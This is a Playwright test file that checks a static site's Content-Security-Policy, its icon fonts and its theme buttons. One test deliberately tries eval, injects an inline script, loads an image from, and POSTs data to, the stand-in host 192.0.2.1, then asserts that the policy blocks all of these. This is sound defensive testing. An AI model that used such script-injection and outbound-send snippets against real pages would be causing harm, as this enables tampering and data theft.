"""What a page's Content-Security-Policy lets through, and its icons; what every page weighs is in test_pages.py."""

import re

import pytest
from playwright.sync_api import Page

from .built import HTML
from .conftest import Guard
from .live import runs
from .shallow_deep import CHAPTER, Widget
from .visits import WATCH


def test_the_icons_are_drawn(page: Page, book_url: str):
    """By the font that was cut down to them: each has a size of its own, and none is the font's sign for a missing one."""
    page.goto(book_url + CHAPTER)
    page.evaluate("document.fonts.ready")
    icons = page.locator("i[class*='fa-'], span[class*='fa-']").evaluate_all(
        """all => all.filter((e) => e.checkVisibility()).map((e) => {
            const style = getComputedStyle(e, "::before");
            return [e.className, style.content.slice(1, -1), style.font || `${style.fontWeight} 16px ${style.fontFamily}`];
        })"""
    )
    assert len(icons) >= 6
    for name, character, font in icons:
        assert len(character) == 1, name
        assert page.evaluate("([font, character]) => document.fonts.check(font, character)", [font, character]), name
    assert sum(path.stat().st_size for path in (HTML / "_static/vendor/fontawesome/webfonts").iterdir()) < 20_000


def policy(text: str) -> dict[str, list[str]]:
    found = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
    assert len(found) == 1
    return {name: sources for name, *sources in map(str.split, found[0].split(";"))}


def test_a_page_has_its_policy(page_path: str):
    text = (HTML / page_path).read_text("utf8")
    rules = policy(text)
    before = text[: text.index("Content-Security-Policy")]
    assert not re.search(r"<(script|link|style|img)\b", before)
    assert rules["default-src"] == ["'self'"]
    assert rules["object-src"] == rules["frame-src"] == rules["base-uri"] == ["'none'"]
    known = re.compile(r"'self'|'none'|data:|blob:|'wasm-unsafe-eval'|'sha256-[A-Za-z0-9+/]{43}='")
    for name, sources in rules.items():
        unknown = [source for source in sources if not known.fullmatch(source)]
        assert unknown == (["'unsafe-inline'"] if name == "style-src" else [])


@pytest.mark.parametrize("origin", ["book_prefix_url", "book_file_url"])
def test_a_network_runs_under_the_policy(origin: str, page: Page, request: pytest.FixtureRequest):
    """Worker, WebAssembly and a picture of the reader's own: all that the policy has to let through."""
    page.add_init_script(WATCH)
    widget = Widget(page, request.getfixturevalue(origin) + CHAPTER)
    runs(widget)
    assert page.evaluate("violations") == []


def test_the_policy_holds(page: Page, guard: Guard, book_url: str):
    """What it forbids does not happen: no eval, no script put into the page, no picture of another host's, nothing sent there."""
    guard.allow("Content Security Policy")
    page.add_init_script(WATCH)
    page.goto(book_url + CHAPTER)
    done = page.evaluate(
        """async () => {
            const done = [];
            // Later, by itself: what a debugger runs at once may use eval.
            setTimeout(() => { try { (0, eval)("1"); done.push("eval"); } catch {} });
            const script = document.createElement("script");
            script.textContent = "window.injected = true";
            document.head.append(script);
            if (window.injected) done.push("inline");
            await new Promise((resolve) => {
                const image = new Image();
                image.onload = () => { done.push("image"); resolve(); };
                image.onerror = resolve;
                image.src = "http://192.0.2.1/picture.png";
            });
            await fetch("http://192.0.2.1/", { method: "POST", body: "a picture" }).then(() => done.push("sent"), () => {});
            await new Promise((resolve) => setTimeout(resolve, 100));
            return done;
        }"""
    )
    assert done == []
    print(page.evaluate("violations"), guard.seen)
    directives = {line.split()[0] for line in page.evaluate("violations")}
    assert directives >= {"script-src", "script-src-elem", "img-src", "connect-src"}
    assert not [line for line in guard.seen if line.startswith("request to")]


def test_the_themes_buttons_still_act(page: Page, book_url: str):
    page.add_init_script("window.print = () => { window.printed = true; };")
    page.goto(book_url + CHAPTER)
    page.locator(".dropdown-download-buttons > button").click()
    page.locator("[data-click=print]").click()
    assert page.evaluate("window.printed")
    page.locator("[data-click=fullscreen]").click()
    page.wait_for_function("document.fullscreenElement !== null")
